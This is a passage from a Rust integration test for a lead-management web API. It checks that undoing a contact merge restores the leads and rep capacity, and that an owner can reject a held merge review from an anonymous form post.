    assert!(b_again["merged_into"].is_null() && b_again["closed_at"].is_null());
    assert_eq!(
        (b_again["contact"]["id"].as_str(), b_again["owner"]["id"].as_str()),
        (Some(contact_b.as_str()), Some("ben"))
    );
    assert_eq!(texts(&b_again), ["from B"]);
    assert_eq!(texts(&app.lead(&lead_a).await), ["from A", "merge us"]);
    assert_eq!(b_again["contact"]["identities"][0]["value"], "+14155550199");
    let reps = app.get("/api/v1/reps").await;
    let ben = reps["items"].as_array().expect("reps").iter().find(|r| r["id"] == "ben").cloned().expect("ben");
    assert_eq!(ben["open_leads"], 1, "Ben's lead counts against his capacity again");
    assert_eq!(app.send_as(ADMIN, reqwest::Method::POST, &undo, &json!({})).await.0, StatusCode::CONFLICT);

    // The next such post is held again, and one owner's rejection ends it.
    app.submit("contact", json!({"email": "alice@example.com", "phone": "+14155550199", "message": "again"})).await;
    let review = app.get("/api/v1/merge-reviews").await["items"][0]["id"].as_str().expect("held again").to_owned();
    let (status, body) =
        app.send_as(BEN, reqwest::Method::POST, &format!("/api/v1/merge-reviews/{review}/reject"), &json!({})).await;
    assert_eq!((status, body["status"].as_str()), (StatusCode::OK, Some("rejected")));
    assert_eq!(app.get("/api/v1/merge-reviews").await["items"].as_array().map(Vec::len), Some(0));
    assert_eq!(app.count("SELECT COUNT(*) FROM contacts WHERE merged_into IS NULL").await, 2);
}
both!(an_anonymous_post_cannot_merge_two_owned_contacts);
